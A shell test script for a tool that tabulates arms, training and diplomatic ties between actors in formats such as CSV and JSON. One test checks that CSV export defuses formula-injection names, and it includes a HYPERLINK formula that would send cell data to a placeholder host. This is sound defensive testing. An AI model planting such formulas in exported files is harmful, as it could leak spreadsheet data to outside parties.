# stats: the tables of a report, as text, CSV and JSON, with render's filters (run by tests/run; compared with stats.expected).
A=$ACTORNET
NET=networks/iran-dprk.yaml
run() { "$@" 2>&1; echo "exit $?"; }
run "$A" stats "$NET"
run "$A" stats "$NET" --table periods -T csv
run "$A" stats "$NET" -T json
# One row per year, then all; render's filters: --type, --focus.
run "$A" stats "$NET" --period 1990s --by year --table periods -T csv
run "$A" stats "$NET" --type missiles --table periods -T csv
run "$A" stats "$NET" --focus HAMAS --table actors -T csv
# A tie still going on since 0090 counts in 2015-; a type named total stays apart from the total.
run "$A" stats -q tests/fixtures/export.yaml --period 2015- --table periods -T csv
run "$A" stats -q tests/fixtures/total.yaml --table periods -T json
# More than 1000 periods are refused.
run "$A" stats -q "$NET" --by year --period 0001/2023
# A name a spreadsheet would run as a formula is kept a text in CSV (a leading apostrophe); numbers stay numbers.
printf '%s\n' 'title: x' 'default_source: s' 'sources: {s: {title: S}}' 'actors:' \
	"  A: {name: '=HYPERLINK(\"http://x.example/?\"&A1,\"click\")', kind: state}" \
	"  B: {name: '+1+1', kind: state}" "  C: {name: '-2', kind: state}" "  D: {name: '@SUM(1)', kind: non-state}" \
	'ties:' '  - {from: A, to: B, type: arms, when: 1990}' '  - {from: C, to: D, type: arms, when: 1991}' >"$TMP/formula.yaml"
run "$A" stats "$TMP/formula.yaml" --table actors -T csv
# mutual: True and FALSE are YAML 1.2's booleans, as the JSON Schema takes them.
printf '%s\n' 'title: x' 'default_source: s' 'sources: {s: {title: S}}' 'actors:' '  A: {name: A, kind: state}' \
	'  B: {name: B, kind: state}' 'ties:' '  - {from: A, to: B, type: arms, when: 1990, mutual: True}' \
	'  - {from: B, to: A, type: training, when: 1991, mutual: FALSE}' | run "$A" stats - --table actors -T csv
# A tie counts only while its actors exist: Tajikistan from 1991, the Afghan Republic 2001-12 to 2021-08.
printf '%s\n' 'title: T' 'default_source: s' 'sources: {s: S}' 'actors:' \
	'  TJK: {name: Tajikistan, kind: state, when: 1991/..}' \
	'  AFG_REP: {name: Afghan Republic, kind: state, when: 2001-12/2021-08}' \
	'  SUN: {name: Soviet Union, kind: state, when: 1922/1991-12-26}' \
	'ties:' '  - {from: TJK, to: AFG_REP, type: diplomatic, when: /2021}' \
	'  - {from: SUN, to: TJK, type: arms, when: 1985/..}' >"$TMP/lifetimes.yaml"
run "$A" stats "$TMP/lifetimes.yaml" --period 1980/2029 --table periods -T csv
run "$A" export -q "$TMP/lifetimes.yaml" -o - -T json
# Kinds: a state with part_of counts as a state organ; international organisations have a row of their own.
run "$A" stats tests/fixtures/kinds.yaml --table kinds -T csv
run "$A" stats tests/fixtures/kinds.yaml --table actors -T csv
# Dated names: each period names the actor as it was called at the period's end; the whole span by its latest name.
for period in 1980s 1990s; do run "$A" stats -q tests/fixtures/names.yaml --period "$period" --table actors -T csv; done
# An actor with a name of its own takes a dated name only for a period that ends while it is in use.
for period in 1950 1950s; do run "$A" stats -q tests/fixtures/names.yaml --period "$period" --table actors -T csv; done
run "$A" export -q tests/fixtures/names.yaml --period 1970s -o - -T json
# Certainly in force only while the actor certainly exists: A (199X/..) certainly exists from the end of 1999.
printf '%s\n' 'title: T' 'default_source: s' 'sources: {s: S}' 'actors:' \
	'  A: {name: A, kind: state, when: 199X/..}' '  B: {name: B, kind: state}' 'ties:' \
	'  - {from: B, to: A, type: arms, when: 1989/1996}' '  - {from: B, to: A, type: trade, when: 1993/1996}' >"$TMP/certain.yaml"
run "$A" stats -q "$TMP/certain.yaml" --certain --period 1990s --by year --table periods -T csv
